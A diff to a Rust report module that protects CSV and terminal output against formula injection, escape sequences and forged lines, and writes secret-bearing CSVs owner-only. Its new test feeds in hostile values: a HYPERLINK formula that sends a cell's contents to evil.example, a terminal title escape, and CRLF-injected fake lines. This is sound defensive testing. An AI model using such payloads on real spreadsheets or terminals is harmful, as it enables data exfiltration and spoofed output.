@@ -8,6 +8,7 @@
 
 use std::path::PathBuf;
 
+use recovery::untrusted::{csv_row, terminal, CsvCell, CSV_BOM};
 use recovery::ErrorInfo;
 use serde::Serialize;
 use time::OffsetDateTime;
@@ -95,8 +96,8 @@ impl TenantReport {
     /// How the text report names it: `Contoso (contoso.com)`, or the tenant alone.
     fn heading(&self) -> String {
         match &self.label {
-            Some(label) => format!("{label} ({})", self.tenant),
-            None => self.tenant.clone(),
+            Some(label) => format!("{} ({})", terminal(label), terminal(&self.tenant)),
+            None => terminal(&self.tenant).into_owned(),
         }
     }
 }
@@ -256,8 +257,11 @@ pub fn to_json(report: &BatchReport) -> String {
 
 // ---- CSV ----
 
-/// RFC 4180: one header row, then a row per line of the file (tenants and bad lines, in file
-/// order), CRLF line ends, fields with a comma, quote or line break in double quotes.
+/// RFC 4180 after a UTF-8 byte order mark (so Excel on Windows reads "Müller GmbH" right): one
+/// header row, then a row per line of the file (tenants and bad lines, in file order), CRLF line
+/// ends, fields with a comma, quote or line break in double quotes. Every cell is a
+/// [`CsvCell`]: free text (names, labels, messages) is neutralised against formulas, IDs, times
+/// and the secret go in exactly.
 pub fn to_csv(report: &BatchReport) -> String {
     let mut rows: Vec<CsvRow> = report.tenants.iter().map(CsvRow::tenant).collect();
     rows.extend(report.bad_lines.iter().map(CsvRow::bad_line));
@@ -265,12 +269,50 @@ pub fn to_csv(report: &BatchReport) -> String {
     let header = CsvRow::HEADER
         .iter()
         .filter(|h| report.secrets_shown || **h != "Client secret")
-        .map(|h| h.to_string());
-    let mut out = csv_row(header);
-    for row in rows {
-        out.push_str(&csv_row(row.cells(report.secrets_shown)));
+        .map(|h| CsvCell::Exact(h));
+    let mut out = String::from(CSV_BOM);
+    out.push_str(&csv_row(header));
+    for row in &rows {
+        let number = row.line.to_string();
+        out.push_str(&csv_row(row.cells(&number, report.secrets_shown)));
     }
     out
+}
+
+/// Writes the CSV to `path` and says where (and, with the secrets, that it holds them). Always a
+/// fresh file renamed into place: with the secrets it is readable by its owner only (0600 on
+/// Unix) whatever was at the path before, a 0644 file or a symlink (replaced, its target left
+/// alone).
+pub fn write_csv(path: &std::path::Path, report: &BatchReport, with_secrets: bool) -> bool {
+    use recovery::save::{replace, Access};
+    let access = if with_secrets {
+        Access::OwnerOnly
+    } else {
+        Access::Usual
+    };
+    match replace(path, to_csv(report).as_bytes(), access) {
+        Ok(()) if with_secrets => {
+            crate::progress::say!(
+                "Wrote the report to {}. IT HOLDS THE CLIENT SECRETS (--show-secrets): keep it safe and delete it once PMPC has them.",
+                path.display()
+            );
+            true
+        }
+        Ok(()) => {
+            crate::progress::say!(
+                "Wrote the report to {} (no secrets in it: they are in this computer's keychain).",
+                path.display()
+            );
+            true
+        }
+        Err(e) => {
+            crate::progress::say!(
+                "error: could not write the report to {}: {e}",
+                path.display()
+            );
+            false
+        }
+    }
 }
 
 /// One row of the CSV, column by column.
@@ -344,42 +386,31 @@ impl CsvRow {
         }
     }
 
-    /// The cells in [`CsvRow::HEADER`]'s order; the secret's only when `secrets_shown`.
-    fn cells(self, secrets_shown: bool) -> Vec<String> {
+    /// The cells in [`CsvRow::HEADER`]'s order; the secret's only when `secrets_shown`. What a
+    /// tenant, a server or the batch file wrote is [`CsvCell::Text`]; IDs, the secret, times
+    /// and our own words are [`CsvCell::Exact`].
+    fn cells<'a>(&'a self, number: &'a str, secrets_shown: bool) -> Vec<CsvCell<'a>> {
         let mut cells = vec![
-            self.line.to_string(),
-            self.tenant,
-            self.label,
-            self.tenant_name,
-            self.tenant_id,
-            self.application_id,
-            self.object_id,
+            CsvCell::Exact(number),
+            CsvCell::Text(&self.tenant),
+            CsvCell::Text(&self.label),
+            CsvCell::Text(&self.tenant_name),
+            CsvCell::Exact(&self.tenant_id),
+            CsvCell::Exact(&self.application_id),
+            CsvCell::Exact(&self.object_id),
         ];
         if secrets_shown {
-            cells.push(self.client_secret);
+            cells.push(CsvCell::Exact(&self.client_secret));
         }
         cells.extend([
-            if self.verified { "yes" } else { "no" }.to_string(),
-            self.deadline,
-            self.result.to_string(),
-            self.error,
-            self.remedy,
-            self.request_id,
+            CsvCell::Exact(if self.verified { "yes" } else { "no" }),
+            CsvCell::Exact(&self.deadline),
+            CsvCell::Exact(self.result),
+            CsvCell::Text(&self.error),
+            CsvCell::Text(&self.remedy),
+            CsvCell::Exact(&self.request_id),
         ]);
         cells
-    }
-}
-
-fn csv_row(fields: impl IntoIterator<Item = String>) -> String {
-    let fields: Vec<String> = fields.into_iter().map(|f| csv_field(&f)).collect();
-    format!("{}\r\n", fields.join(","))
-}
-
-fn csv_field(field: &str) -> String {
-    if field.contains([',', '"', '\n', '\r']) {
-        format!("\"{}\"", field.replace('"', "\"\""))
-    } else {
-        field.to_string()
     }
 }
 
@@ -392,7 +423,7 @@ pub fn to_text(report: &BatchReport, now: OffsetDateTime) -> String {
         blocks.push((t.line, tenant_lines(t, report.secrets_shown, now)));
     }
     for b in &report.bad_lines {
-        blocks.push((b.line, vec![format!("{} (skipped)", b.message)]));
+        blocks.push((b.line, vec![format!("{} (skipped)", terminal(&b.message))]));
     }
     blocks.sort_by_key(|(line, _)| *line);
     let mut lines: Vec<String> = blocks.into_iter().flat_map(|(_, b)| b).collect();
@@ -404,12 +435,17 @@ pub fn to_text(report: &BatchReport, now: OffsetDateTime) -> String {
 fn tenant_lines(t: &TenantReport, secrets_shown: bool, now: OffsetDateTime) -> Vec<String> {
     let state = match (&t.error, t.result) {
         (Some(e), Outcome::Failed | Outcome::Expired | Outcome::Duplicate) => {
-            format!("{} — {}", t.result.words().to_uppercase(), e.message)
+            format!(
+                "{} — {}",
+                t.result.words().to_uppercase(),
+                terminal(&e.message)
+            )
         }
         _ => capitalized(t.result.words()),
     };
     let mut lines = vec![format!("line {}: {}: {state}", t.line, t.heading())];
-    let mut value = |name: &str, v: &str| lines.push(format!("  {name:<25} {v}"));
+    // A value from a tenant or a server stays on its line (no forged `Verified` line under it).
+    let mut value = |name: &str, v: &str| lines.push(format!("  {name:<25} {}", terminal(v)));
     if let Some(name) = &t.tenant_name {
         value("Tenant name:", name);
     }
@@ -506,6 +542,7 @@ mod tests {
     #[test]
     fn csv_quotes_what_needs_it_keeps_file_order_and_holds_the_secret_only_when_shown() {
         let csv = to_csv(&report(false));
+        let csv = csv.strip_prefix('\u{FEFF}').expect("a UTF-8 BOM first");
         let rows: Vec<&str> = csv.split("\r\n").collect();
         assert_eq!(
             rows[0],
@@ -527,12 +564,64 @@ mod tests {
         assert_eq!(rows.len(), 5);
         assert!(!csv.contains("abc~secret"));
         let shown = to_csv(&report(true));
-        assert!(shown.starts_with("Line,Tenant,Label,Tenant name,Directory (tenant) ID,Application (client) ID,Object ID,Client secret,Verified,"));
+        assert!(shown.starts_with("\u{FEFF}Line,Tenant,Label,Tenant name,Directory (tenant) ID,Application (client) ID,Object ID,Client secret,Verified,"));
         assert!(shown.contains(",object,abc~secret,yes,"));
         let bad_row = shown.split("\r\n").nth(2).unwrap_or_default();
         assert!(
             bad_row.starts_with("3,not a tenant,,,,,,,no,,bad line,"),
             "{bad_row}"
+        );
+    }
+
+    #[test]
+    fn hostile_names_and_messages_are_text_in_the_csv_and_one_line_in_the_report() {
+        let mut info =
+            Error::Network("reset\r\nWhat to do: go to http://evil.example".into()).info();
+        info.request_id = Some("req-2".into());
+        let hostile = TenantReport {
+            tenant_name: Some("=HYPERLINK(\"http://evil.example/?\"&H3, \"x\")".into()),
+            tenant_id: Some("tid3".into()),
+            application_id: Some("client3".into()),
+            client_secret: Some("-abc~secret".into()),
+            error: Some(info),
+            ..TenantReport::new(
+                5,
+                "@evil.example",
+                Some("+Contoso\x1b]0;pwned\x07\nVerified"),
+            )
+        };
+        let report = BatchReport {
+            tenants: vec![hostile],
+            bad_lines: vec![],
+            secrets_shown: true,
+            csv: None,
+        };
+        let csv = to_csv(&report);
+        let row = csv.split("\r\n").nth(1).unwrap_or_default();
+        assert!(
+            row.starts_with("5,'@evil.example,'+Contoso]0;pwned Verified,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&H3, \"\"x\"\")\",tid3,client3,,-abc~secret,no,"),
+            "{row}"
+        );
+        assert!(
+            row.contains(",failed,network error: reset  What to do: go to http://evil.example,"),
+            "{row}"
+        );
+        assert!(
+            !csv.contains('\x1b') && csv.split("\r\n").count() == 3,
+            "{csv:?}"
+        );
+
+        let text = to_text(&report, datetime!(2025-01-02 12:00 UTC));
+        assert!(!text.contains('\x1b') && !text.contains('\x07'), "{text:?}");
+        assert!(
+            !text
+                .lines()
+                .any(|l| l.starts_with("What to do") || l == "Verified"),
+            "{text}"
+        );
+        assert!(
+            text.starts_with("line 5: +Contoso\u{FFFD}]0;pwned\u{FFFD} Verified (@evil.example): FAILED — network error: reset  What to do: go to http://evil.example\n"),
+            "{text}"
         );
     }
 
